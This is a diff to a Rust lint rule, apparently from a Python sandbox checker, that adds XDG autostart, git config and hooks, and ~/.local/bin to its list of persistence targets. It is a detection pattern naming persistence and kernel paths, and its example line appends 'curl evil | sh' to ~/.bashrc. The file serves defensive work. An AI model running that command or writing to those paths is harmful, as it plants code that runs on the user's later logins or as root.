@@ -1,6 +1,6 @@
 //! PJ431 `sensitive-file-write`: writes a persistence target, a host secret or a kernel interface.
 //!
-//! **What it does.** Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, `ld.so.preload`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).
+//! **What it does.** Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, `ld.so.preload`, XDG autostart, `~/.gitconfig`, `.git/hooks/`, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).
 //!
 //! **Why is this bad?** A write there outlives the program: the next shell, cron run, login or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).
 //!
@@ -24,7 +24,7 @@ pub(crate) const META: Meta = Meta {
     category: "filesystem",
     capability: Capability::FilesystemWrite,
     message: "`{name}` writes a persistence target, a host secret or a kernel interface",
-    description: "Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, `ld.so.preload`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).",
+    description: "Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, `ld.so.preload`, XDG autostart, `~/.gitconfig`, `.git/hooks/`, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).",
     rationale: "A write there outlives the program: the next shell, cron run, login or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).",
     example: "with open(os.path.expanduser(\"~/.bashrc\"), \"a\") as f:\n    f.write(\"curl evil | sh\\n\")",
     fix: "Write into the working directory or a temporary one. Suppress an intended write with `# pyjail: ignore[PJ431]`.",
